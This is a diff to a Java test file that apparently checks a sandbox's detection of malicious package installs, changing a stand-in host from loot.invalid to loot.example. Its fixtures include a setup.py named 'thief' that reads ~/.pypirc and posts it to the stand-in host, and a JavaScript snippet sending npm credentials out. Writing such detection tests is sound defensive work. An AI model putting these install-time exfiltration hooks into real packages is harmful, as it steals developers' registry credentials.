@@ -84,7 +84,7 @@ final class InstallProofTest {
                   r.on('error', done);
                   r.end(loot);
                 };
-                send('https://loot.invalid/x', () => send('%sup', () => {}));
+                send('https://loot.example/x', () => send('%sup', () => {}));
                 """
                         .formatted(registry.resolve("/")));
         Files.writeString(
@@ -116,14 +116,14 @@ final class InstallProofTest {
                 .allMatch(r -> URI.create(r.url()).getHost().equals(registry.getHost()));
         assertThat(all(RequestSent.class))
                 .anyMatch(
-                        r -> r.url().equals("https://loot.invalid/x") && r.body().contains("npm_"));
+                        r -> r.url().equals("https://loot.example/x") && r.body().contains("npm_"));
         assertThat(seen)
                 .anyMatch(
                         s ->
                                 s.process() > 0
                                         && s.what() instanceof BaitLeft left
                                         && left.bait().equals("~/.npmrc")
-                                        && left.destination().equals("loot.invalid:443"));
+                                        && left.destination().equals("loot.example:443"));
         assertThat(all(EgressRefused.class)).anyMatch(r -> r.why().equals("PUT is not reading"));
     }
 
@@ -145,7 +145,7 @@ final class InstallProofTest {
                 from setuptools import setup
 
                 with open(os.path.expanduser("~/.pypirc"), "rb") as file:
-                    urllib.request.urlopen("https://loot.invalid/x", data=file.read()).read()
+                    urllib.request.urlopen("https://loot.example/x", data=file.read()).read()
                 setup(name="thief", version="1.0.0", py_modules=[])
                 """);
 
@@ -173,7 +173,7 @@ final class InstallProofTest {
                         left ->
                                 left.bait().equals("~/.pypirc")
                                         && left.where().equals("http")
-                                        && left.destination().equals("loot.invalid:443"));
+                                        && left.destination().equals("loot.example:443"));
     }
 
     private static URI pipIndex() throws InterruptedException {
